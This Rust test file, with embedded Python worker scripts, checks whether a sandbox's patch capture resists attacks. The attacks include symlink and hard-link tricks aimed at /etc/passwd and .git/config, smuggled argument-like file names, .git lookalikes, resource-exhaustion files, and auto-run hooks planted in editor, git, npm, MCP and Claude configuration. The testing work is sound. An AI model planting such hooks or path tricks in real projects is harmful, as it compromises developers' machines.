os.waitpid(pid, 0)
if mode == "control":
    # A naive capture while the leftover runs: read src/x, following links.
    seen = set()
    end = time.time() + 2
    while time.time() < end:
        try:
            with open("src/x") as f:
                seen.add(f.read(64).split("\n")[0])
        except OSError:
            pass
    say("NAIVE-READ " + " | ".join(sorted(seen)))
else:
    time.sleep(0.5)
"#);

fn cap_08(ctx: &mut Ctx) -> Result<Verdict> {
    let secret = ctx.dir.join("host-secret");
    let needle = format!("CAP08HOST-{}", ctx.n);
    std::fs::write(&secret, &needle)?;
    set_mode(&secret, 0o644)?;
    let v = vars([
        ("MARK", host_mark(ctx)),
        ("SECRET", secret.to_string_lossy().into_owned()),
    ]);
    let mut spec = RunSpec::new("CAP-08.py").args(["{MARK}", "{SECRET}", "run"]);
    spec.wall_seconds = 15;
    let mut j = Judge::new();
    let run = match ctx.run(&spec, &v) {
        Ok(r) => r,
        Err(e) => {
            j.breach(true, format!("corral did not finish: {e:#}"));
            return Ok(j.verdict());
        }
    };
    j.require(
        started(&run),
        format!("the worker ran ({})", describe(&run)),
    );
    let passwd = std::fs::read("/etc/passwd").unwrap_or_default();
    let first = passwd.split(|b| *b == b'\n').next().unwrap_or(b"").to_vec();
    let patch = run.patch();
    j.breach(
        contains(&patch, &first),
        "the host's /etc/passwd is in the patch",
    );
    j.breach(
        artifacts_contain(&run, needle.as_bytes()),
        "the host file behind the flipping link is in corral's artifacts",
    );
    let codes = run.rejection_codes();
    let ok_verdict = match run.outcome() {
        "candidate_captured" => {
            let p = String::from_utf8_lossy(&patch);
            // An accepted src/x must be the regular file with "ok".
            !p.contains("120000") && p.contains("+ok")
        }
        "candidate_rejected" => codes.iter().any(|c| c == "symlink_escape"),
        _ => codes.iter().any(|c| c == "capture_failed"),
    };
    j.breach(
        !ok_verdict,
        format!(
            "unexpected verdict with a flipping src/x: {} ({}; patch {})",
            describe(&run),
            fmt_rej(&run),
            truncate(&String::from_utf8_lossy(&patch), 200)
        ),
    );
    j.note(format!(
        "{}; rejections {}; the leftover daemon was killed before capture (generic process check)",
        describe(&run),
        fmt_rej(&run)
    ));
    let mut spec_c = spec.clone();
    spec_c.args = vec!["{MARK}".into(), "{SECRET}".into(), "control".into()];
    let ctl = ctx.control(
        &spec_c,
        &v,
        &Control {
            own_pidns: true,
            timeout: Duration::from_secs(10),
            ..Control::default()
        },
    );
    let ctl = ctl?;
    j.control(
        ctl.stdout.contains(&needle),
        format!(
            "outside, a naive read of src/x while the leftover ran followed the link to the host file ({})",
            truncate(&ctl.stdout, 200)
        ),
    );
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-09

const CAP_09: &str = py!(r#"
if step("GITDIR ln .git/config src/gitcfg", lambda: os.link(".git/config", "src/gitcfg")):
    w("src/gitcfg", f"[core]\n\tfsmonitor = {PAY}\n", "a", "GITDIR append via src/gitcfg")
step("ln src/app.py .github/workflows/ci2.yml", lambda: os.link("src/app.py", ".github/workflows/ci2.yml"))
step("ln src/app.py src/alias.py", lambda: os.link("src/app.py", "src/alias.py"))
step("ln /etc/hostname src/h", lambda: os.link("/etc/hostname", "src/h"))
step("ln /etc/passwd src/pw", lambda: os.link("/etc/passwd", "src/pw"))
w("src/app.py", 'print("changed")\n', "a")
"#);

fn cap_09(ctx: &mut Ctx) -> Result<Verdict> {
    let meta = |p: &str| {
        std::fs::metadata(p)
            .map(|m| {
                use std::os::unix::fs::MetadataExt as _;
                (m.mode(), m.uid(), m.gid(), m.nlink())
            })
            .ok()
    };
    let before = (meta("/etc/hostname"), meta("/etc/passwd"));
    let spec = wide("CAP-09.py").args(["{MARK}"]);
    let run = ctx.run(&spec, &vars([("MARK", host_mark(ctx))]))?;
    let mut j = Judge::new();
    expect(
        &mut j,
        &run,
        &[("path_out_of_scope", ".github/workflows/ci2.yml")],
    );
    gitdir_guard(&mut j, &run);
    let out = run.output();
    for host in ["src/h", "src/pw"] {
        j.breach(
            out.lines()
                .any(|l| l.starts_with("OK ln /etc/") && l.contains(host)),
            format!("a hard link from {host} to a host file succeeded"),
        );
    }
    let after = (meta("/etc/hostname"), meta("/etc/passwd"));
    j.breach(
        before != after,
        format!("host inode metadata changed: {before:?} -> {after:?}"),
    );
    j.note(format!("worker: {}", steps(&run)));
    let (fired, out, _) = control_naive(ctx, &spec, "git status --porcelain")?;
    j.control(
        fired,
        format!(
            "outside, the hard link made src/gitcfg edit .git/config and plain `git status` ran the fsmonitor ({})",
            truncate(&out, 200)
        ),
    );
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-10

const CAP_10: &str = py!(r#"
for d in [".github/workflows/x -> src", "src-evil"]:
    step(f"mkdir {d!r}", lambda d=d: os.makedirs(d, exist_ok=True))
for name in ["src/a\nb", "src/\x1b[31mred", "src/a -> b", ".github/workflows/x -> src/ok.txt",
             'src/"q"', "src/\ttab", "src/ ", "src/..\\..\\.github\\workflows\\x.yml",
             "src/%2e%2e%2f.github", "src-evil/p.py", "srcX", "-rf",
             f"--upload-pack=touch PWN-{N}", ".github/workflows/x -> src/inner.txt"]:
    w(name, "x\n")
"#);

fn cap_10(ctx: &mut Ctx) -> Result<Verdict> {
    let spec = wide("CAP-10.py").args(["{MARK}"]);
    let run = ctx.run(&spec, &vars([("MARK", host_mark(ctx))]))?;
    let mut j = Judge::new();
    let upload = format!("--upload-pack=touch PWN-{}", ctx.n);
    expect(
        &mut j,
        &run,
        &[
            ("path_out_of_scope", ".github/workflows/x -> src/ok.txt"),
            ("path_out_of_scope", ".github/workflows/x -> src/inner.txt"),
            ("path_out_of_scope", "src-evil/p.py"),
            ("path_out_of_scope", "srcX"),
            ("path_out_of_scope", "-rf"),
            ("path_out_of_scope", &upload),
            ("path_invalid", "src/a\\x0ab"),
            ("path_invalid", "src/\\x1b[31mred"),
            ("path_invalid", "src/\\x09tab"),
            (
                "path_invalid",
                "src/..\\\\..\\\\.github\\\\workflows\\\\x.yml",
            ),
        ],
    );
    // Never URL-decoded: no rejection or change may name the decoded form.
    let all: Vec<String> = rejections(&run).into_iter().map(|(_, p)| p).collect();
    j.breach(
        all.iter().any(|p| p.contains("src/../") || p == ".github"),
        format!("a name was decoded or normalized: {all:?}"),
    );
    j.note(format!("rejections: {}", fmt_rej(&run)));
    // Control: the naive capture (porcelain v1 text, " -> " split, prefix scope) is fooled.
    let (_, out, _) = control_naive(ctx, &spec, "git status --porcelain -uall")?;
    let fooled: Vec<String> = out
        .lines()
        .filter_map(|l| l.get(3..))
        .map(|p| {
            let p = p.rsplit(" -> ").next().unwrap_or(p);
            p.trim_matches('"').to_owned()
        })
        .filter(|p| p.starts_with("src"))
        .filter(|p| p.starts_with("src-") || p == "srcX" || p.contains("ok.txt"))
        .collect();
    j.control(
        !fooled.is_empty(),
        format!(
            "outside, a naive porcelain-v1 parse with a prefix scope check accepted out-of-scope names ({})",
            truncate(&out, 300)
        ),
    );
    j.note(format!("naive capture accepted: {fooled:?}"));
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-11

const CAP_11: &str = py!(r#"
names = [b".github/workflows/\xff\xfe.yml", b"src/\xc3\x28", "src/e\u0301.txt".encode(),
         "src/\u00e9.txt".encode(), "src/evil\u202egnp.sh".encode(), b"Src/x"]
for d in [".GIT", ".Git", ".g\u200cit", "git~1", ".git.", ".git "]:
    names.append(f"{d}/config".encode())
    names.append(f"src/{d}/config".encode())
for n in names:
    def mk(n=n):
        os.makedirs(os.path.dirname(n), exist_ok=True)
        with open(n, "wb") as f:
            f.write(b"x\n")
    step(f"write {n!r}", mk)
"#);

fn cap_11(ctx: &mut Ctx) -> Result<Verdict> {
    let spec = wide("CAP-11.py").args(["{MARK}"]);
    let run = ctx.run(&spec, &vars([("MARK", host_mark(ctx))]))?;
    let mut j = Judge::new();
    expect(
        &mut j,
        &run,
        &[
            ("path_not_utf8", ".github/workflows/\\xff\\xfe.yml"),
            ("path_not_utf8", "src/\\xc3("),
            ("path_out_of_scope", "Src/x"),
        ],
    );
    let rej = rejections(&run);
    // Lookalikes (at the root and inside the scope) must be protected.
    for d in [".GIT", ".Git", ".g\\u{200c}it", "git~1", ".git.", ".git "] {
        for p in [d.to_owned(), format!("src/{d}")] {
            j.breach(
                captured(&run)
                    && !rej.iter().any(|(c, rp)| {
                        (c == "path_protected" || c == "git_metadata_changed")
                            && (rp == &p || rp.starts_with(&format!("{p}/")))
                    }),
                format!("the .git lookalike {p:?} was not rejected as protected"),
            );
        }
    }
    j.breach(
        run.outcome() == "candidate_captured",
        "the run was accepted",
    );
    j.note(format!("rejections: {}", fmt_rej(&run)));
    // Control: a naive capture (porcelain, lossy decoding, prefix scope) accepts lookalikes
    // inside src/ and drops the undecodable bytes.
    let (_, out, _) = control_naive(
        ctx,
        &spec,
        "git -c core.quotePath=false status --porcelain -uall",
    )?;
    let accepted: Vec<&str> = out
        .lines()
        .filter_map(|l| l.get(3..))
        .filter(|p| p.starts_with("src/") && p.to_ascii_lowercase().contains("git"))
        .collect();
    j.control(
        !accepted.is_empty(),
        format!(
            "outside, a naive prefix scope check accepted .git lookalikes under src/ ({})",
            truncate(&out, 300)
        ),
    );
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-12

const CAP_12: &str = py!(r#"
def sparse(path, sizes):
    for s in sizes:
        try:
            with open(path, "wb") as f:
                f.truncate(s)
            return s
        except OSError:
            pass
step("sparse src/sparse.bin", lambda: sparse("src/sparse.bin", [(1 << 63) - 1, 1 << 60, 1 << 40]))
def big():
    with open("src/big.bin", "wb") as f:
        chunk = os.urandom(1 << 20)
        for _ in range(int(ARGS[1])):
            f.write(chunk)
step("src/big.bin", big)
step("mkfifo src/pipe", lambda: os.mkfifo("src/pipe"))
def sock():
    s = socket.socket(socket.AF_UNIX)
    s.bind("src/sock")
step("socket src/sock", sock)
w(".git/refs/heads/b1", "x\n", label="GITDIR refs")
step("GITDIR truncate .git/index", lambda: os.truncate(".git/index", 1 << 32))
def many():
    os.makedirs("src/many", exist_ok=True)
    for i in range(3000):
        with open(f"src/many/f{i}", "w") as f:
            f.write(str(i))
step("src/many 3000 files", many)
"#);

fn cap_12(ctx: &mut Ctx) -> Result<Verdict> {
    // 72 MiB of real data: over capture's 64 MiB per-file cap, inside the disk budget.
    let mut spec = wide("CAP-12.py").args(["{MARK}", "72"]);
    spec.disk_bytes = 160 << 20;
    spec.memory_bytes = 384 << 20;
    spec.wall_seconds = 30;
    let mut j = Judge::new();
    let trivial = trivial_run(ctx, &spec, &mut j)?;
    let run = match ctx.run(&spec, &vars([("MARK", host_mark(ctx))])) {
        Ok(r) => r,
        Err(e) => {
            j.breach(true, format!("corral did not finish: {e:#}"));
            return Ok(j.verdict());
        }
    };
    let mut want = vec![
        ("capture_limit", "src/sparse.bin"),
        ("capture_limit", "src/big.bin"),
        ("special_file", "src/pipe"),
    ];
    // The filter refuses socket(AF_UNIX) (NET-05), so the socket file usually cannot be
    // made; when it was, it must be rejected too.
    if run.out().contains("OK socket src/sock") {
        want.push(("special_file", "src/sock"));
    } else {
        j.note("socket(AF_UNIX) refused inside: no socket file to capture");
    }
    expect(&mut j, &run, &want);
    // corral's time beyond the worker's: reading even the smallest sparse size the
    // script tries (1 TiB) would take minutes; 20 s and this host's grace is ample.
    let worker = Duration::from_millis(run.manifest["execution"]["wall_ms"].as_u64().unwrap_or(0));
    let bound = Duration::from_secs(20) + trivial.grace;
    j.breach(
        run.elapsed.saturating_sub(worker) > bound,
        format!(
            "capture was not bounded ({:.1} s beyond the worker's, bound {:.1} s): {}",
            run.elapsed.saturating_sub(worker).as_secs_f64(),
            bound.as_secs_f64(),
            describe(&run)
        ),
    );
    j.breach(
        run.peak_rss_kib > 200 * 1024,
        format!(
            "corral's peak RSS {} KiB: it read a huge file into memory",
            run.peak_rss_kib
        ),
    );
    j.note(format!(
        "{}; peak RSS {} KiB; rejections {}; worker: {}",
        describe(&run),
        run.peak_rss_kib,
        fmt_rej(&run),
        steps(&run)
    ));
    // Control: a naive capture that opens every listed file blocks on the FIFO.
    let mut small = spec.clone();
    small.args = vec!["{MARK}".into(), "1".into()];
    let (_, out, _) = control_naive(
        ctx,
        &small,
        "timeout -s KILL 2 cat src/pipe >/dev/null; echo naive-cat-rc=$?",
    )?;
    j.control(
        out.contains("naive-cat-rc=137"),
        format!(
            "outside, a naive read of src/pipe blocked until killed ({})",
            truncate(&out, 200)
        ),
    );
    Ok(j.verdict())
}

// ---------------------------------------------------------------------------------------------
// CAP-13

const CAP_13: &str = py!(r#"
FILES = {
    ".envrc": f"touch {MARK}\n",
    ".vscode/tasks.json": '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch ' + MARK + '","runOptions":{"runOn":"folderOpen"}}]}\n',
    ".vscode/settings.json": '{"terminal.integrated.shellArgs.linux":["-c","touch ' + MARK + '"]}\n',
    ".idea/workspace.xml": "<project/>\n",
    ".github/workflows/x.yml": "on: push\n",
    "Makefile": f"all:\n\ttouch {MARK}\n",
    "package.json": '{"scripts":{"postinstall":"touch ' + MARK + '"}}\n',
    ".pre-commit-config.yaml": "repos: []\n",
    ".gitattributes": "* filter=x\n",
    ".gitmodules": '[submodule "y"]\n\tpath = y\n\turl = ../y\n\tupdate = !touch ' + MARK + '\n',
    ".mcp.json": '{"mcpServers":{"x":{"command":"touch","args":["' + MARK + '"]}}}\n',
    ".claude/commands/x.md": f"!touch {MARK}\n",
    ".bashrc": f"touch {MARK}\n",
    ".gitconfig": f"[core]\n\tfsmonitor = touch {MARK}\n",
    ".ripgreprc": "--pre=touch\n",
    "src/.npmrc": f"script-shell=/bin/sh -c 'touch {MARK}'\n",
}
for p, body in FILES.items():
    w(p, body)
"#);

fn cap_13(ctx: &mut Ctx) -> Result<Verdict> {
    let spec = wide("CAP-13.py").args(["{MARK}"]);
    let run = ctx.run(&spec, &vars([("MARK", host_mark(ctx))]))?;
    let mut j = Judge::new();
    let root = [
        ".envrc",
        ".vscode/tasks.json",
        ".vscode/settings.json",
        ".idea/workspace.xml",
        ".github/workflows/x.yml",
        "Makefile",
        "package.json",
        ".pre-commit-config.yaml",
        ".gitattributes",
        ".gitmodules",
        ".mcp.json",
        ".claude/commands/x.md",
        ".bashrc",
        ".gitconfig",
        ".ripgreprc",
    ];
    let want: Vec<(&str, &str)> = root.iter().map(|p| ("path_out_of_scope", *p)).collect();
    expect(&mut j, &run, &want);
    let npmrc = rejections(&run)
        .into_iter()
        .filter(|(_, p)| p == "src/.npmrc")
        .map(|(c, _)| c)
        .collect::<Vec<_>>();
    // Inside the granted scope, a file that runs code later still needs an exact entry.
    j.breach(
        !npmrc.iter().any(|c| c == "path_protected"),
        format!(
            "src/.npmrc (inside the granted scope src/, not named exactly) was not rejected as \
             path_protected: {npmrc:?}"
        ),
    );
    j.note(format!("rejections: {}", fmt_rej(&run)));
    // Control: outside, the attack really creates every file (the naive listing shows them).
    let m = marks(ctx)?.join("x");
    let ctl = ctx.control(
        &spec,
        &vars([("MARK", m.to_string_lossy().into_owned())]),
        &Control::default(),
    )?;
    let missing: Vec<&&str> = root
        .iter()
        .chain(&["src/.npmrc"])
        .filter(|p| !ctl.ws.join(p).is_file())
        .collect();
    j.control(
        missing.is_empty(),
        format!("outside, the attack wrote every file (missing {missing:?})"),
    );
    Ok(j.verdict())
}
